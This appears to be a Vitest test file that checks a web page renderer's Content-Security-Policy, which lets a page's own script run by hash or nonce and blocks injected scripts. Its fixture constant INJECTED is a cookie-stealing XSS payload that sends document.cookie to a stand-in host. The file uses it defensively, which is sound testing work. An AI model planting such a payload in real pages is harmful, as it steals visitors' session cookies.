import { createHash } from 'node:crypto'
import type { ServerBuild } from 'react-router'
import { expect, test } from 'vitest'
import type { PageHandler } from '../../web/entry.server.tsx'
import { createPages } from './pages.ts'

const OURS = 'start()'
const INJECTED = 'fetch("https://elsewhere.example/"+document.cookie)'
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** Pages of a build whose every page has a script of its own, and after it one that came with the data. */
function pagesWithInjection() {
  const nonces: string[] = []
  const handle: PageHandler = async (_, __, nonce) => {
    nonces.push(nonce)
    const html = `<html><script nonce="${nonce}">${OURS}</script><script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script></html>`
    return new Response(html, { headers: { 'content-type': 'text/html; charset=utf-8' } })
  }
  const entry = {
    createPageHandler: () => handle,
    textOf: (response: Response) => response.text(),
    shownPath: (path: string) => path,
    sameAsOf: () => undefined,
    setPageErrorListener: () => undefined,
  }
  const pages = createPages({
    load: async () => ({ entry: { module: entry } }) as unknown as ServerBuild,
    mode: 'production',
    services: { siteUrl: 'http://site.example' } as never,
    frameAncestors: [],
    onError: () => undefined,
  })
  return { pages, nonces }
}

const scriptsOf = (headers: Record<string, string>) =>
  headers['content-security-policy']!.split('; ').find(part => part.startsWith('script-src'))

test('a script that data has brought into a page that visitors share is not allowed to run', async () => {
  const { pages } = pagesWithInjection()
  const { headers, body } = await pages.render('/forex')
  expect(body).toContain(`<script>${INJECTED}</script>`)
  expect(scriptsOf(headers)).toBe(`script-src 'self' ${hashOf(OURS)}`)
})

test('a page that visitors share is the same at each render, and tells no nonce', async () => {
  const { pages, nonces } = pagesWithInjection()
  const [first, second] = [await pages.render('/forex'), await pages.render('/forex')]
  expect(second).toEqual(first)
  expect(new Set(nonces).size).toBe(2)
  for (const nonce of nonces) expect(JSON.stringify(first)).not.toContain(nonce)
})

test('a page of one visitor allows its scripts by a nonce that holds for this answer', async () => {
  const { pages, nonces } = pagesWithInjection()
  const visitor = { network: '192.0.2.1', cookie: () => undefined, reader: async () => undefined }
  const { headers, body } = await pages.renderFor({ method: 'GET', path: '/settings', visitor })
  expect(scriptsOf(headers)).toBe(`script-src 'self' 'nonce-${nonces[0]}'`)
  expect(body).toContain(`<script nonce="${nonces[0]}">${OURS}</script>`)
})
